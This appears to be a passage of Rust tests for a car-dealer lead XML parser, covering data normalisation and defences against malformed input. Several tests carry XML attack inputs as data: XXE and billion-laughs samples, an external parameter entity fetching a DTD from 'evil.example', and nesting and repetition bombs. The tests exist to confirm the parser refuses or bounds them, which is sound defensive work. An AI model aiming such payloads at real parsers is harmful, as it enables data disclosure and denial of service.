        serde_json::json!({"value": 12345, "units": "km"})
    );
    let lead = one(&with_vehicle_markup("<odometer>lots</odometer>"));
    assert!(has_warning(&lead, "<odometer> \"lots\" is not a number"));
    assert_eq!(lead.report()["vehicles"][0]["odometer"]["value"], Value::Null);
}

#[test]
fn a_vehicle_with_a_bad_vin_or_year_keeps_what_it_can() {
    let lead = one(&with_vehicle_markup("<vin> 1hgcv1f3xpa01234 </vin>"));
    assert_eq!(lead.vehicles[0].vin.as_deref(), Some("1HGCV1F3XPA01234"));
    assert!(has_warning(&lead, "is not a valid VIN"));
    let xml = MISSING_OPTIONAL.replace("<year>2025</year>", "<year>25</year>");
    let lead = one(&xml);
    assert_eq!(lead.vehicles[0].year, None);
    assert!(has_warning(&lead, "<year> \"25\""));
    let lead = one(&with_vehicle_markup("<make>Hyundai</make>"));
    assert_eq!(lead.vehicles[0].make.as_deref(), Some("Kia"));
    assert!(has_warning(&lead, "a second <make>"));
}

#[test]
fn phones_become_e164_where_the_country_is_known() {
    let leads = leads(CONTACT_VALUES);
    let numbers: Vec<_> = leads[0]
        .customer
        .contact
        .phones
        .iter()
        .map(|phone| (phone.raw.as_str(), phone.number.as_str()))
        .collect();
    assert_eq!(
        numbers,
        [
            ("(303) 555-0101", "+13035550101"),
            ("303.555.0102 ext. 45", "+13035550102"),
            ("1-303-555-0103", "+13035550103"),
            ("+44 20 7946 0958", "+442079460958"),
            ("555-0104", "555-0104"),
            ("303-555-CARS", "303-555-CARS"),
        ]
    );
    assert!(has_warning(&leads[0], r#"the phone number "555-0104""#));
    assert!(has_warning(&leads[0], r#"the phone number "303-555-CARS""#));
    let report = leads[0].report();
    assert_eq!(report["customer"]["phones"][1]["number"], "+13035550102");
    assert_eq!(report["customer"]["phones"][1]["raw"], "303.555.0102 ext. 45");

    // A British address: a number without + cannot be placed, one with + can.
    let british: Vec<_> = leads[1]
        .customer
        .contact
        .phones
        .iter()
        .map(|p| p.number.as_str())
        .collect();
    assert_eq!(british, ["020 7946 0959", "+442079460960"]);
    assert!(has_warning(&leads[1], "country is not in North America"));
}

#[test]
fn emails_are_trimmed_lower_cased_and_invalid_ones_dropped_with_a_warning() {
    let lead = &leads(CONTACT_VALUES)[0];
    let emails: Vec<_> = lead
        .customer
        .contact
        .emails
        .iter()
        .map(|e| e.address.as_str())
        .collect();
    assert_eq!(emails, ["harper.vance@example.com", "h.vance@example.net"]);
    for raw in ["harper at example dot com", "harper@example", "harper@@example.com"] {
        assert!(
            has_warning(lead, &format!("dropped the e-mail address \"{raw}\"")),
            "{raw}: {:?}",
            lead.warnings
        );
    }
}

#[test]
fn a_resend_hashes_the_same_and_a_changed_lead_does_not() {
    let original = one(AUTOTRADER);
    let resend = one(AUTOTRADER_RESEND);
    assert_eq!(resend.status, LeadStatus::Resend);
    assert_ne!(original.request_date, resend.request_date);
    assert_eq!(original.content_hash(), resend.content_hash());
    assert_eq!(original.content_hash().len(), 64);
    assert!(original.content_hash().bytes().all(|b| b.is_ascii_hexdigit()));

    for (from, to) in [
        ("(512) 555-0161", "(512) 555-0162"),
        ("<model>Accord</model>", "<model>Civic</model>"),
        ("come by Saturday morning", "come by Sunday morning"),
        ("<name part=\"first\">Dana</name>", "<name part=\"first\">Dan</name>"),
        (
            "<odometer units=\"mi\">96500</odometer>",
            "<odometer units=\"mi\">96600</odometer>",
        ),
        (
            "<name part=\"full\">AutoTrader.com</name>",
            "<name part=\"full\">Cars.com</name>",
        ),
    ] {
        assert!(AUTOTRADER.contains(from), "{from}");
        let changed = one(&AUTOTRADER.replacen(from, to, 1));
        assert_ne!(original.content_hash(), changed.content_hash(), "{from} → {to}");
    }
}

#[test]
fn an_xxe_doctype_is_refused_with_the_reason() {
    let refused = error(XXE);
    assert_eq!(refused, AdfError::EntityDeclaration { line: 2 });
    assert!(
        refused.to_string().contains("entity declarations are not allowed"),
        "{refused}"
    );
}

#[test]
fn a_billion_laughs_bomb_is_refused_with_the_reason() {
    let refused = error(BILLION_LAUGHS);
    assert!(matches!(refused, AdfError::EntityDeclaration { .. }), "{refused}");
    assert!(refused.to_string().contains("entity declarations are not allowed"));
    // Also when the DOCTYPE hides after the root's start, or uses a parameter entity.
    let late = MISSING_OPTIONAL.replace("<prospect>", "<!DOCTYPE x [<!ENTITY a 'b'>]><prospect>");
    assert!(matches!(error(&late), AdfError::EntityDeclaration { .. }));
    let parameter =
        format!("<!DOCTYPE adf [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]>{MISSING_OPTIONAL}");
    assert!(matches!(error(&parameter), AdfError::EntityDeclaration { .. }));
}

#[test]
fn a_plain_or_external_doctype_is_accepted_and_never_fetched() {
    let lead = one(DOCTYPE_EXTERNAL);
    assert!(lead.warnings.is_empty(), "{:?}", lead.warnings);
    assert_eq!(lead.vehicles[0].model.as_deref(), Some("Corolla"));
    let plain = format!("<!DOCTYPE adf>\n{MISSING_OPTIONAL}");
    assert!(one(&plain).warnings.is_empty());
    let subset_without_entities = format!("<!DOCTYPE adf [<!ELEMENT adf (prospect+)>]>{MISSING_OPTIONAL}");
    assert_eq!(one(&subset_without_entities).vehicles.len(), 1);
}

#[test]
fn oversized_input_is_refused() {
    let padding = " ".repeat(MAX_DOCUMENT_BYTES);
    let huge = format!("{MISSING_OPTIONAL}{padding}");
    let refused = error(&huge);
    assert!(
        matches!(
            refused,
            AdfError::TooLarge {
                limit: MAX_DOCUMENT_BYTES,
                ..
            }
        ),
        "{refused}"
    );
    assert!(refused.to_string().contains("over the limit"));
}

#[test]
fn deep_nesting_is_refused_with_a_clear_error() {
    let bomb = format!(
        "<adf><prospect>{}{}</prospect></adf>",
        "<x>".repeat(MAX_DEPTH * 4),
        "</x>".repeat(MAX_DEPTH * 4)
    );
    let refused = error(&bomb);
    assert!(
        matches!(
            refused,
            AdfError::TooDeep {
                limit: MAX_DEPTH,
                line: 1,
                ..
            }
        ),
        "{refused}"
    );
    assert!(refused.to_string().contains("nest deeper than 64 levels"), "{refused}");
}

#[test]
fn a_truncated_document_keeps_the_complete_prospects_with_a_warning() {
    let leads = leads(TRUNCATED);
    let ids: Vec<_> = leads
        .iter()
        .filter_map(|lead| lead.adf_id())
        .map(|id| id.value.as_str())
        .collect();
    assert_eq!(ids, ["B-1001", "B-1002"]);
    for lead in &leads {
        assert!(
            has_warning(lead, "the document is damaged at line 55"),
            "{:?}",
            lead.warnings
        );
        assert!(has_warning(lead, "expected </name>"), "{:?}", lead.warnings);
        assert!(
            has_warning(lead, "the <prospect> it interrupts was dropped"),
            "{:?}",
            lead.warnings
        );
    }
}

#[test]
fn a_truncated_document_without_a_complete_prospect_names_the_position_and_what_was_expected() {
    let cut = &AUTOTRADER[..AUTOTRADER.find("<customer>").expect("a customer")];
    let refused = error(cut);
    let AdfError::Malformed {
        line, position, reason, ..
    } = &refused
    else {
        panic!("malformed, got {refused}");
    };
    assert_eq!(*line, 35);
    assert_eq!(*position, cut.len());
    assert!(reason.contains("expected </prospect>"), "{reason}");
    assert!(refused.to_string().contains("line 35"), "{refused}");

    let cut_in_a_tag = &AUTOTRADER[..AUTOTRADER.find("<vin>").expect("a vin") + 3];
    let refused = error(cut_in_a_tag);
    assert!(refused.to_string().contains("a tag is not closed"), "{refused}");
}

#[test]
fn a_mismatched_tag_names_both_tags_and_where_they_are() {
    let broken = MISSING_OPTIONAL.replace("</model>", "</modle>");
    let refused = error(&broken);
    assert_eq!(
        refused.to_string(),
        "malformed XML at line 7, column 23 (byte 154): expected </model> (opened at line 7), found </modle>"
    );
    // After a complete prospect, the same damage keeps it.
    let two = MULTIPLE_PROSPECTS.replace("<model>Forester</model>", "<model>Forester</model></vehicles>");
    let leads = leads(&two);
    assert_eq!(leads.len(), 1);
    assert!(has_warning(&leads[0], "expected </vehicle>"));
}

#[test]
fn a_document_without_an_adf_root_or_prospect_is_no_prospect() {
    for xml in [
        "",
        "   \n ",
        "<?xml version=\"1.0\"?>",
        "<adf/>",
        "<adf></adf>",
        "<adf><source>x</source></adf>",
        "<lead><prospect/></lead>",
        "<html><body>Thanks for your inquiry</body></html>",
        "just some text",
        "<!-- nothing -->",
    ] {
        assert_eq!(adf::parse(xml), Err(AdfError::NoProspect), "{xml:?}");
    }
    assert!(
        AdfError::NoProspect
            .to_string()
            .contains("no <adf> root element with a <prospect>")
    );
}

#[test]
fn the_report_has_exactly_the_documented_keys() {
    let lead_keys = set(&[
        "ids",
        "request_date",
        "status",
        "vehicles",
        "customer",
        "vendor",
        "provider",
        "warnings",
    ]);
    let vehicle_keys = set(&[
        "interest", "status", "year", "make", "model", "trim", "vin", "stock", "price", "odometer", "comments",
    ]);
    let customer_keys = set(&[
        "first_name",
        "middle_name",
        "last_name",
        "full_name",
        "emails",
        "phones",
        "address",
        "comments",
        "timeframe",
    ]);
    for (name, xml) in ALL_READABLE {
        for lead in leads(xml) {
            let report = lead.report();
            assert_eq!(keys(&report), lead_keys, "{name}");
            for id in report["ids"].as_array().expect("ids") {
                assert_eq!(keys(id), set(&["value", "source"]), "{name}");
            }
            for vehicle in report["vehicles"].as_array().expect("vehicles") {
                assert_eq!(keys(vehicle), vehicle_keys, "{name}");
                if !vehicle["price"].is_null() {
                    assert_eq!(keys(&vehicle["price"]), set(&["amount", "currency", "type"]), "{name}");
                }
                if !vehicle["odometer"].is_null() {
                    assert_eq!(keys(&vehicle["odometer"]), set(&["value", "units"]), "{name}");
                }
                assert!(vehicle["year"].is_i64() || vehicle["year"].is_null(), "{name}");
            }
            let customer = &report["customer"];
            assert_eq!(keys(customer), customer_keys, "{name}");
            assert!(customer["emails"].is_array(), "{name}");
            for phone in customer["phones"].as_array().expect("phones") {
                assert_eq!(keys(phone), set(&["number", "raw", "type", "time"]), "{name}");
            }
            if !customer["address"].is_null() {
                assert_eq!(
                    keys(&customer["address"]),
                    set(&["street", "apartment", "city", "region", "postal_code", "country"]),
                    "{name}"
                );
                assert!(customer["address"]["street"].is_array());
            }
            if !customer["timeframe"].is_null() {
                assert_eq!(
                    keys(&customer["timeframe"]),
                    set(&["description", "earliest", "latest"]),
                    "{name}"
                );
            }
            if !report["vendor"].is_null() {
                assert_eq!(
                    keys(&report["vendor"]),
                    set(&["name", "contact_name", "email", "phone"]),
                    "{name}"
                );
            }
            if !report["provider"].is_null() {
                assert_eq!(
                    keys(&report["provider"]),
                    set(&["name", "service", "url", "email", "phone"]),
                    "{name}"
                );
            }
            assert!(report["warnings"].is_array(), "{name}");
            assert_no_empty_strings(&report, name);
        }
    }
}

fn assert_no_empty_strings(value: &Value, name: &str) {
    match value {
        Value::String(text) => assert!(!text.is_empty(), "{name}: an empty string in the report"),
        Value::Array(items) => items.iter().for_each(|item| assert_no_empty_strings(item, name)),
        Value::Object(fields) => fields.values().for_each(|field| assert_no_empty_strings(field, name)),
        _ => {}
    }
}

#[test]
fn the_report_of_the_kitchen_sink() {
    let report = one(KITCHEN_SINK).report();
    assert_eq!(report["request_date"], "2026-03-14T09:30:00-05:00");
    assert_eq!(report["status"], "resend");
    assert_eq!(
        report["ids"][0],
        serde_json::json!({"value": "DS-2026-000481", "source": "DealerSocket"})
    );
    let vehicle = &report["vehicles"][0];
    assert_eq!(
        vehicle["price"],
        serde_json::json!({"amount": 34995.0, "currency": "USD", "type": "quote"})
    );
    assert_eq!(vehicle["odometer"], serde_json::json!({"value": 18204, "units": "mi"}));
    assert_eq!(vehicle["year"], 2023);
    assert_eq!(report["vehicles"][1]["interest"], "trade-in");
    let customer = &report["customer"];
    assert_eq!(customer["emails"][0], "avery.castellano@example.com");
    assert_eq!(
        customer["phones"][0],
        serde_json::json!({"number": "+15125550147", "raw": "(512) 555-0147", "type": "cellphone", "time": "evening"})
    );
    assert_eq!(
        customer["address"]["street"],
        serde_json::json!(["4821 Bluebonnet Trail", "Unit B"])
    );
    assert_eq!(customer["address"]["region"], "TX");
    assert_eq!(customer["timeframe"]["earliest"], "2026-03-16T00:00:00Z");
    assert_eq!(
        report["vendor"],
        serde_json::json!({
            "name": "Hill Country Toyota",
            "contact_name": "Hill Country Toyota Internet Sales",
            "email": "internet@hillcountrytoyota.example.com",
            "phone": "+15125550100"
        })
    );
    assert_eq!(
        report["provider"],
        serde_json::json!({
            "name": "Example Lead Exchange",
            "service": "Used Vehicle Inquiry",
            "url": "https://leads.example.org",
            "email": "adf@leads.example.org",
            "phone": "+18005550199"
        })
    );
    assert_eq!(report["warnings"], serde_json::json!([]));
}

/// A cheap stand-in for the fuzzer: every prefix of every sample, and every sample with one
/// byte replaced by markup, must give leads or an error, never a panic.
#[test]
fn no_prefix_or_single_byte_corruption_of_a_sample_panics() {
    for (_, xml) in ALL_READABLE
        .iter()
        .chain(&[("xxe", XXE), ("billion_laughs", BILLION_LAUGHS)])
    {
        for (cut, _) in xml.char_indices().step_by(5) {
            let _ = adf::parse(&xml[..cut]);
        }
        let bytes = xml.as_bytes();
        for at in (0..bytes.len()).step_by(17) {
            for replacement in ["<", ">", "&", "\"", "/", "]]>", "<!", "<?", "&#x0;", "é"] {
                if xml.is_char_boundary(at) && xml.is_char_boundary((at + 1).min(xml.len())) {
                    let corrupted = format!("{}{replacement}{}", &xml[..at], &xml[(at + 1).min(xml.len())..]);
                    let _ = adf::parse(&corrupted);
                }
            }
        }
    }
}

/// The bytes of text a lead's warnings and extensions hold.
fn warning_and_extension_bytes(lead: &Lead) -> usize {
    let warnings: usize = lead.warnings.iter().map(String::len).sum();
    let extensions: usize = lead
        .extensions
        .iter()
        .map(|extension| {
            extension.path.len()
                + extension.text.as_ref().map_or(0, String::len)
                + extension
                    .attributes
                    .iter()
                    .map(|(name, value)| name.len() + value.len())
                    .sum::<usize>()
        })
        .sum();
    warnings + extensions
}

/// A lead's warnings are at most [`MAX_WARNINGS`] short ones, then one that counts the rest.
fn assert_warnings_bounded(lead: &Lead) {
    assert!(
        lead.warnings.len() <= MAX_WARNINGS + 4,
        "{} warnings",
        lead.warnings.len()
    );
    for warning in &lead.warnings {
        assert!(
            warning.len() < 400,
            "a long warning: {}…",
            warning.chars().take(200).collect::<String>()
        );
    }
}

/// Found in review, not by the fuzzer (its inputs stay far below the 1 MiB a document may
/// have): each of these repetitions made a lead quote, copy or redo part of the document once
/// per repeat, gigabytes or minutes from a document under the limit. What a document yields
/// is now bounded by its size.
#[test]
fn a_repetitive_document_yields_warnings_and_extensions_bounded_by_its_size() {
    let long_name = "n".repeat(50_000);

    // An undefined entity, many times, in an element with a long name: each warning quoted
    // the name.
    let entities = format!(
        "<adf><prospect/><{long_name}>{}</{long_name}></adf>",
        "&u;".repeat(20_000)
    );
    let lead = one(&entities);
    assert_warnings_bounded(&lead);
    assert!(
        has_warning(&lead, "more warning(s) were not kept"),
        "{:?}",
        lead.warnings.last()
    );
    // The same in an attribute, under a long attribute name.
    let in_attribute = format!(
        "<adf><prospect/><{long_name} {long_name}=\"{}\"/></adf>",
        "&u;".repeat(20_000)
    );
    assert_warnings_bounded(&one(&in_attribute));

    // A long value, then many different second values: each warning quoted the first.
    let seconds = format!(
        "<adf><prospect><vehicle><make>{}</make>{}</vehicle></prospect></adf>",
        "M".repeat(100_000),
        "<make>b</make>".repeat(10_000)
    );
    let lead = one(&seconds);
    assert_warnings_bounded(&lead);
    assert!(has_warning(&lead, "a second <make>"));

    // Many unknown elements under one with a long name: each path held the long name.
    let children = format!(
        "<adf><prospect><{long_name}>{}</{long_name}></prospect></adf>",
        "<x/>".repeat(20_000)
    );
    let lead = one(&children);
    assert_eq!(lead.extensions.len(), MAX_EXTENSIONS);
    assert!(lead.extensions.iter().all(|extension| extension.path.len() < 200));
    assert!(has_warning(&lead, "the rest were not kept"));
    assert!(warning_and_extension_bytes(&lead) < 1 << 20);

    // Outside any prospect, a large extension and many warnings, then many prospects: each
    // lead got a copy of them all.
    let shared = format!(
        "<adf><x a=\"{}\"/>{}{}</adf>",
        "A".repeat(200_000),
        "<!DOCTYPE x>".repeat(5_000),
        "<prospect/>".repeat(5_000)
    );
    let leads = leads(&shared);
    assert_eq!(leads.len(), 5_000);
    assert_eq!(leads[0].extensions.len(), 1);
    assert!(has_warning(&leads[0], "ignored a DOCTYPE"));
    assert!(has_warning(&leads[4_999], "were not copied into this lead"));
    let copied: usize = leads.iter().map(warning_and_extension_bytes).sum();
    assert!(copied < 16 << 20, "{copied} bytes");
    for lead in &leads {
        assert_warnings_bounded(lead);
    }

    // Many malformed processing instructions before the root: each warning counted the lines
    // before it.
    let instructions = format!("{}<adf><prospect/></adf>", "<?x>".repeat(50_000));
    assert_warnings_bounded(&one(&instructions));
}

/// Found in review: every `</contact>` normalised every phone of its party again (a second
/// `<contact>` adds to the first), so many phones and many contacts took minutes and warned
/// once per phone per contact. Phones and street lines are finished once, with the prospect.
#[test]
fn phones_and_street_lines_are_finished_once_per_lead() {
    let phones = format!(
        "<adf><prospect><customer><contact>{}</contact>{}</customer></prospect></adf>",
        "<phone>call me</phone>".repeat(50),
        "<contact/>".repeat(20_000)
    );
    let lead = one(&phones);
    assert_eq!(lead.customer.contact.phones.len(), 50);
    let problems = lead
        .warnings
        .iter()
        .filter(|warning| warning.contains("kept as given"))
        .count();
    assert_eq!(problems, 50, "one per phone: {:?}", &lead.warnings[..3]);

    // The country may come in a later <contact>, as an address may come after the phones.
    let later_country = "<adf><prospect><customer><contact><phone>020 7946 0958</phone></contact>\
                         <contact><address><street line=\"2\">Flat 3</street><street line=\"1\">1 High St</street>\
                         <country>GB</country></address></contact></customer></prospect></adf>";
    let lead = one(later_country);
    assert_eq!(lead.customer.contact.phones[0].number, "020 7946 0958");
    assert!(
        has_warning(&lead, "country is not in North America"),
        "{:?}",
        lead.warnings
    );
    let address = lead.customer.contact.address.as_ref().expect("an address");
    let streets: Vec<_> = address.street.iter().map(|street| street.value.as_str()).collect();
    assert_eq!(streets, ["1 High St", "Flat 3"]);
}
